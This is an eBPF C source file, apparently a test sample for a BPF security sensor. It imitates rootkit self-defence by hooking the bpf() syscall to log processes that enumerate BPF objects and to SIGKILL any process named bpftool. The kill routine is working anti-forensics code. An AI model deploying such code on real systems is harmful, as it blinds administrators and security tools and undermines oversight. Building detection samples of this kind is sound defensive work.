// SPDX-License-Identifier: GPL-2.0
/*
 * MALICIOUS-STYLE, imitates rootkits that defend themselves against BPF
 * forensics (e.g. ebpfkit, TripleCross): a hook on the bpf() syscall itself.
 *   watch_bpf_enum  reports every process that enumerates BPF objects
 *                   (BPF_*_GET_NEXT_ID, BPF_OBJ_GET_INFO_BY_FD) - how
 *                   bpftool and sensors find loaded programs;
 *   kill_bpftool    sends SIGKILL with bpf_send_signal from the tracepoint to
 *                   any process named "bpftool" that calls bpf().
 * Both sit in the same section and load on this kernel.
 */
#include "sentry_test.h"

char LICENSE[] SEC("license") = "GPL";

#define SIGKILL 9

struct enum_event {
	u32 pid;
	u32 cmd;
	char comm[TASK_COMM_LEN];
};

struct {
	__uint(type, BPF_MAP_TYPE_RINGBUF);
	__uint(max_entries, 16 * 1024);
} bpf_enumerators SEC(".maps");

SEC("tracepoint/syscalls/sys_enter_bpf")
int watch_bpf_enum(struct trace_event_raw_sys_enter *ctx)
{
	u32 cmd = ctx->args[0];
	struct enum_event *ev;

	switch (cmd) {
	case BPF_PROG_GET_NEXT_ID:
	case BPF_MAP_GET_NEXT_ID:
	case BPF_LINK_GET_NEXT_ID:
	case BPF_BTF_GET_NEXT_ID:
	case BPF_OBJ_GET_INFO_BY_FD:
		break;
	default:
		return 0;
	}
	ev = bpf_ringbuf_reserve(&bpf_enumerators, sizeof(*ev), 0);
	if (!ev)
		return 0;
	ev->pid = bpf_get_current_pid_tgid() >> 32;
	ev->cmd = cmd;
	bpf_get_current_comm(ev->comm, sizeof(ev->comm));
	bpf_ringbuf_submit(ev, 0);
	return 0;
}

SEC("tracepoint/syscalls/sys_enter_bpf")
int kill_bpftool(struct trace_event_raw_sys_enter *ctx)
{
	char comm[TASK_COMM_LEN] = {};

	bpf_get_current_comm(comm, sizeof(comm));
	if (comm[0] == 'b' && comm[1] == 'p' && comm[2] == 'f' && comm[3] == 't' &&
	    comm[4] == 'o' && comm[5] == 'o' && comm[6] == 'l' && comm[7] == 0)
		bpf_send_signal(SIGKILL);
	return 0;
}
